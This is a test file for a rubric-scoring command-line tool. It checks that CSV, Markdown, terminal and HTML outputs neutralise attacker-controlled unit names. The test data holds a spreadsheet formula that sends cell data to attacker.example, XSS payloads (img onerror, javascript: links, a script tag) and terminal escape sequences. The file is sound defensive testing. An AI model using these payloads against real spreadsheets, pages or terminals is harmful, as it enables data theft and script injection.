import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { repositoryRoot, runCli } from '../cli/run-cli.js';

// Assessments come from the units being rated: a unit name is the attacker's text. Whatever it holds, the
// CSV opened in Excel runs no formula, the Markdown rendered shows no markup of its own, the terminal obeys
// no escape sequence, and the HTML page runs nothing. Needs `npm run build`.

const RUBRIC = path.join(repositoryRoot, 'examples/huyen-2022/huyen-2022.rubric');
const ESC = '\u001b';
const hostileNames = {
    formula: '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")',
    markup: 'UBND <img src=x onerror=alert(1)> [bấm](javascript:alert(1))',
    terminal: `UBND ${ESC}]8;;http://attacker.example${ESC}\\huyện${ESC}]8;;${ESC}\\ ${ESC}[2J${ESC}[31mđỏ\u202Eesrever`,
};
let work: string;

beforeAll(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'rubric-neutralise-'));
    const unit = JSON.parse(fs.readFileSync(path.join(repositoryRoot, 'examples/huyen-2022/assessments/dong-hoa.json'), 'utf8'));
    for (const [kind, name] of Object.entries(hostileNames)) {
        fs.writeFileSync(path.join(work, `${kind}.json`), JSON.stringify({ ...unit, unit: { ...unit.unit, id: `PY-${kind.toUpperCase()}`, name } }, null, 2));
    }
});
afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

const score = (format: string, ...files: string[]) => runCli(['score', '--rubric', RUBRIC, '--format', format, ...files.map((file) => path.join(work, file))]);

describe('outputs neutralise what an assessment holds', () => {
    test('CSV: a cell that starts like a formula is written as text (a leading apostrophe); numbers stay numbers', async () => {
        const run = await score('csv', 'formula.json');
        expect(run.status, run.stderr).toBe(0);
        const cells = run.stdout.split(/\r?\n/).flatMap((line) => line.split(','));
        expect(cells.some((cell) => /^"?=/.test(cell))).toBe(false);
        expect(run.stdout).toContain(`"'=HYPERLINK(`);
        // the points themselves, penalties included, are still numbers a spreadsheet sums
        expect(run.stdout).toMatch(/,\d+(\.\d+)?,/);
    });

    test('Markdown: raw HTML and links from a unit name are escaped, so they render as the text they are', async () => {
        const run = await score('md', 'markup.json');
        expect(run.status, run.stderr).toBe(0);
        expect(run.stdout).not.toMatch(/(^|[^\\])<img/);
        expect(run.stdout).toContain('\\<img src=x onerror=alert(1)>');
        expect(run.stdout).toContain('\\[bấm\\](javascript:alert(1))');
        // the report's own markup is intact
        expect(run.stdout).toMatch(/^\| --- \| --- \| ---: \|/m);
        expect(run.stdout).toMatch(/\*\*\d+(\.\d+)?\/100\*\*/);
    });

    test('terminal: escape sequences and direction overrides show as visible codes in the table and in messages', async () => {
        const table = await score('table', 'terminal.json');
        expect(table.status, table.stderr).toBe(0);
        expect(table.stdout).not.toContain(ESC);
        expect(table.stdout).not.toContain('\u202E');
        expect(table.stdout).toContain('\\u{1b}[31mđỏ\\u{202e}esrever');
        // a message that repeats the attacker's text (an unknown metric key) is neutralised too
        const unit = JSON.parse(fs.readFileSync(path.join(work, 'terminal.json'), 'utf8'));
        fs.writeFileSync(path.join(work, 'unknown-key.json'), JSON.stringify({ ...unit, metrics: { ...unit.metrics, [`x${ESC}[2Jy`]: 1 } }));
        const message = await score('table', 'unknown-key.json');
        expect(message.status).toBe(1);
        expect(message.stderr).toContain('x\\u{1b}[2Jy');
        expect(message.stderr).not.toContain(ESC);
    });

    test('the annex: a field title from a rubric under review cannot inject markup into Markdown or a formula into CSV', async () => {
        for (const folder of ['huyen-2022', 'common']) fs.mkdirSync(path.join(work, folder), { recursive: true });
        fs.copyFileSync(path.join(repositoryRoot, 'examples/common/cchc-common.rubric'), path.join(work, 'common/cchc-common.rubric'));
        const text = fs.readFileSync(RUBRIC, 'utf8').replace('"Công tác chỉ đạo điều hành CCHC"', '"=1+1 <script>alert(1)</script>"');
        fs.writeFileSync(path.join(work, 'huyen-2022/hostile.rubric'), text);
        const md = await runCli(['export', 'huyen-2022/hostile.rubric', '--format', 'md'], { cwd: work });
        expect(md.status, md.stderr).toBe(0);
        expect(md.stdout).toContain('=1+1 \\<script>alert(1)\\</script>');
        const csv = await runCli(['export', 'huyen-2022/hostile.rubric', '--format', 'csv'], { cwd: work });
        expect(csv.status, csv.stderr).toBe(0);
        expect(csv.stdout).toContain(",'=1+1 <script>");
        expect(csv.stdout).not.toMatch(/(^|,)=1\+1/m);
    });

    test('HTML: the page carries a Content-Security-Policy that allows its own stylesheet and nothing else', async () => {
        for (const run of [await score('html', 'markup.json'), await runCli(['export', RUBRIC, '--format', 'html'])]) {
            expect(run.status, run.stderr).toBe(0);
            const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(run.stdout)?.[1];
            expect(policy).toBeDefined();
            expect(policy).toContain("default-src 'none'");
            expect(policy).not.toMatch(/unsafe-inline|script-src/);
            const style = /<style>([\s\S]*?)<\/style>/.exec(run.stdout)![1];
            const hash = createHash('sha256').update(style, 'utf8').digest('base64');
            expect(policy).toContain(`style-src 'sha256-${hash}'`);
            expect(run.stdout).not.toContain('<img');
        }
    });
});
